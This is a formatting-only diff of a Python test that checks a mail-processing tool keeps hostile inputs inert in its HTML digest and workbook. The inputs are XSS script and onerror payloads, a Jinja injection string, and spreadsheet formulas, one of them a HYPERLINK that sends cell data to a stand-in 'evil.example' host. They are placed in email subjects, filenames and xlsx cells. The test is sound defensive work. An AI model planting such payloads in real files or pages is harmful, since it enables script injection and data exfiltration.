@@ -19,7 +19,7 @@ from tests.reliability.common import write_config
 from tests.reliability.hostile import XLSX_TYPE, xlsx_bytes
 
 SCRIPT = "<script>alert('x')</script>"
-HTML = '<img src=x onerror=alert(2)><b>粗体</b>'
+HTML = "<img src=x onerror=alert(2)><b>粗体</b>"
 JINJA = "{{ 7*7 }}{% for i in range(3) %}loop{% endfor %}"
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")',
@@ -47,7 +47,13 @@ def _deliver_hostile(ctx: Context) -> None:
     )
     stats = xlsx_bytes(
         [
-            ["单位名称", "线上活动（场次）", "线下活动（场次）", "校园开放日（次）", "宣传报道（篇）"],
+            [
+                "单位名称",
+                "线上活动（场次）",
+                "线下活动（场次）",
+                "校园开放日（次）",
+                "宣传报道（篇）",
+            ],
             [FORMULAS[1], FORMULAS[2], FORMULAS[3], FORMULAS[4], 5],
             [FORMULAS[0], 1, 2, 3, 4],
         ]
@@ -60,30 +66,38 @@ def _deliver_hostile(ctx: Context) -> None:
         when=at(4, 9),
         message_id="<inject@fczz>",
     )
-    msg.add_attachment(stats, maintype=XLSX_TYPE.split("/")[0], subtype=XLSX_TYPE.split("/")[1],
-                       filename="肥城职专2020年职业教育活动周情况统计表.xlsx")
+    msg.add_attachment(
+        stats,
+        maintype=XLSX_TYPE.split("/")[0],
+        subtype=XLSX_TYPE.split("/")[1],
+        filename="肥城职专2020年职业教育活动周情况统计表.xlsx",
+    )
     deliver_maildir(inbox, msg, at(4, 9))
     # an unassigned stranger: its subject goes to the problems list and sheet
     deliver_maildir(
         inbox,
-        mail(sender="someone@163.com", subject=f"{FORMULAS[0]} 活动周 {SCRIPT} {JINJA}",
-             files=[(f"{FORMULAS[4]}{HTML}.docx", docx_bytes("活动周材料"))], when=at(4, 9, 5),
-             message_id="<inject2@163.com>"),
+        mail(
+            sender="someone@163.com",
+            subject=f"{FORMULAS[0]} 活动周 {SCRIPT} {JINJA}",
+            files=[(f"{FORMULAS[4]}{HTML}.docx", docx_bytes("活动周材料"))],
+            when=at(4, 9, 5),
+            message_id="<inject2@163.com>",
+        ),
         at(4, 9, 5),
     )
 
 
 def _assert_inert_html(html: str) -> None:
-    assert "<script>" not in html and "onerror=alert" not in html.replace("onerror=alert(2)&gt;", "")
+    assert "<script>" not in html and "onerror=alert" not in html.replace(
+        "onerror=alert(2)&gt;", ""
+    )
     assert "<img src=x" not in html
     assert "&lt;script&gt;" in html
     assert "{{ 7*7 }}" in html  # shown as typed, never evaluated
     assert "looploop" not in html
 
 
-def test_payloads_are_inert_in_ack_digest_and_workbook(
-    tmp_path: Path, smtp_sink: SmtpSink
-) -> None:
+def test_payloads_are_inert_in_ack_digest_and_workbook(tmp_path: Path, smtp_sink: SmtpSink) -> None:
     _, settings = write_config(tmp_path, outbox_url=smtp_sink.url)
     ctx = Context.open(settings)
     _deliver_hostile(ctx)
